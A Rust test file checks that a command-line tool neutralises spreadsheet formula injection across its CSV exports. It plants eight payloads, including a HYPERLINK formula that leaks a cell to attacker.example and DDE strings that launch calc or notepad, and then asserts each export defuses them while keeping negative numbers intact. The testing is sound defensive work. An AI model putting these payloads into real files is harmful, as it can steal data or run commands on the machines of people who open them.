//! Formula injection in every CSV the command line writes: customer, lead and CRM names and a
//! scored file's cells planted with what Excel would run (`=`, `+`, `-`, `@`, tab, carriage
//! return), every export written, each parsed back. No cell may begin like a formula unless it
//! is a plain number (negative values stay numbers), and the planted text must be there,
//! neutralised, so the test cannot pass on an export that left it out.

use std::path::{Path, PathBuf};

use super::{cli, on_passphrase_workspace, text, PASSPHRASE};

/// What Excel (or LibreOffice) would evaluate, one per starting character it acts on.
const PAYLOADS: [&str; 8] = [
    "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Open\")",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1;=2+2,\"quoted\"",
    "-cmd|' /C notepad'!'A1'",
];

fn plant(ws: &Path) {
    on_passphrase_workspace(ws, async |ws| {
        let statements = [
            "UPDATE customers SET name = ?1 || ' ' || rowid, city = ?1 \
             WHERE rowid % 8 = ?2",
            "UPDATE leads SET customer_name = ?1 || ' ' || rowid, offer_name = ?1, \
             contact_last_name = ?1 WHERE rowid % 8 = ?2",
            "UPDATE crm_accounts SET name = ?1 || ' ' || rowid WHERE rowid % 8 = ?2",
        ];
        for (i, payload) in PAYLOADS.iter().enumerate() {
            for statement in statements {
                sqlx::query(statement)
                    .bind(*payload)
                    .bind(i as i64)
                    .execute(ws.pool())
                    .await
                    .expect("plant");
            }
        }
    });
}

/// A cell Excel would take for a formula: it starts with one of its triggers and is not a
/// plain number.
fn formula_like(cell: &str) -> bool {
    let Some(first) = cell.chars().next() else {
        return false;
    };
    if !matches!(first, '=' | '+' | '-' | '@' | '\t' | '\r') {
        return false;
    }
    let body = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    let plain_number = !body.is_empty()
        && body
            .chars()
            .all(|c| c.is_ascii_digit() || c == '.' || c == ',')
        && body.starts_with(|c: char| c.is_ascii_digit());
    !plain_number
}

/// Reads an export back (BOM, `,` or `;`), checks every cell, returns (cells, neutralised
/// payloads found, negative numbers kept).
fn check(path: &Path) -> (usize, usize, usize) {
    let bytes = std::fs::read(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let text = String::from_utf8(bytes).expect("UTF-8");
    let text = text.strip_prefix('\u{feff}').unwrap_or(&text);
    let header = text.lines().next().unwrap_or_default();
    let delimiter = if header.matches(';').count() > header.matches(',').count() {
        b';'
    } else {
        b','
    };
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    let (mut cells, mut neutralised, mut negatives) = (0, 0, 0);
    for (line, record) in reader.records().enumerate() {
        let record = record.unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        for cell in record.iter() {
            cells += 1;
            assert!(
                !formula_like(cell),
                "{} record {}: a cell Excel would run: {cell:?}",
                path.display(),
                line + 1
            );
            if let Some(rest) = cell.strip_prefix('\'') {
                if PAYLOADS
                    .iter()
                    .any(|p| rest.starts_with(p.get(..6).unwrap_or(p)))
                {
                    neutralised += 1;
                }
            }
            if cell.starts_with('-') {
                negatives += 1;
            }
        }
    }
    (cells, neutralised, negatives)
}

fn run(data: &Path, args: &[&str]) {
    let out = cli(data)
        .args(args)
        .env("PARTNER_ADVISOR_PASSPHRASE", PASSPHRASE)
        .output()
        .expect("run");
    assert!(out.status.success(), "{args:?}: {:?}", text(&out));
}

#[test]
fn every_export_neutralises_formulas_and_keeps_negative_numbers() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let data = tmp.path().join("data");
    let ws = tmp.path().join("ws");
    let w = ws.to_str().expect("utf-8 path");
    run(
        &data,
        &[
            "demo",
            "--customers",
            "80",
            "--seed",
            "3",
            "--as-of",
            "2026-10-31",
            "--workspace",
            w,
        ],
    );
    plant(&ws);
    run(&data, &["opportunities", "refresh", "--workspace", w]);

    let out = |name: &str| -> PathBuf { tmp.path().join(name) };
    let mut exports: Vec<(PathBuf, bool)> = Vec::new();
    for lang in ["en", "fr"] {
        let file = out(&format!("opportunities-{lang}.csv"));
        run(
            &data,
            &[
                "opportunities",
                "export",
                "--workspace",
                w,
                "--lang",
                lang,
                "--out",
                file.to_str().expect("path"),
            ],
        );
        exports.push((file, true));
        let file = out(&format!("leads-{lang}.csv"));
        run(
            &data,
            &[
                "leads",
                "export",
                "--workspace",
                w,
                "--lang",
                lang,
                "--out",
                file.to_str().expect("path"),
            ],
        );
        exports.push((file, true));
    }
    for report in ["renewal", "azure", "d365", "m365", "security", "surface"] {
        let file = out(&format!("report-{report}.csv"));
        run(
            &data,
            &[
                "report",
                "generate",
                "--workspace",
                w,
                "--report",
                report,
                "--out",
                file.to_str().expect("path"),
            ],
        );
        // Every report carries the customer's name, planted in one customer of eight.
        exports.push((file, true));
    }

    // A CRM list whose names are payloads, matched.
    let crm = out("crm.csv");
    let mut list = String::from("Account ID,Account Name,Website,Country\n");
    for (i, p) in PAYLOADS.iter().enumerate() {
        let quoted = p.replace('"', "\"\"");
        list.push_str(&format!("CRM-{i},\"{quoted}\",x{i}.example,US\n"));
    }
    std::fs::write(&crm, list).expect("crm");
    let matched = out("crm-matched.csv");
    run(
        &data,
        &[
            "crm",
            "match",
            "--workspace",
            w,
            "--crm",
            crm.to_str().expect("path"),
            "--out",
            matched.to_str().expect("path"),
        ],
    );
    exports.push((matched, true));

    // A history with payloads in a categorical column and negative numbers, trained and scored.
    let history = out("history.csv");
    let mut rows = String::from("balance,segment,won\n");
    for i in 0..400 {
        let payload = PAYLOADS[i % PAYLOADS.len()].replace('"', "\"\"");
        let balance = (i as i64 % 37) - 18;
        let won = if (i * 7 + i / 3) % 5 < 2 { "yes" } else { "no" };
        rows.push_str(&format!("{balance},\"{payload}\",{won}\n"));
    }
    std::fs::write(&history, rows).expect("history");
    let model = out("model.json");
    let scored = out("scored.csv");
    let h = history.to_str().expect("path");
    run(
        &data,
        &[
            "model",
            "train",
            "--data",
            h,
            "--target",
            "won",
            "--positive",
            "yes",
            "--out",
            model.to_str().expect("path"),
        ],
    );
    run(
        &data,
        &[
            "model",
            "score",
            "--model",
            model.to_str().expect("path"),
            "--data",
            h,
            "--out",
            scored.to_str().expect("path"),
        ],
    );
    let (_, _, negatives) = check(&scored);
    assert!(negatives > 0, "negative balances stay numbers");
    exports.push((scored, true));

    for (path, planted) in &exports {
        let (cells, neutralised, _) = check(path);
        println!(
            "{}: {cells} cells, {neutralised} planted formulas neutralised",
            path.file_name()
                .and_then(|n| n.to_str())
                .unwrap_or_default()
        );
        assert!(cells > 0, "{} is empty", path.display());
        if *planted {
            assert!(
                neutralised > 0,
                "{}: the planted names are missing",
                path.display()
            );
        }
    }
}
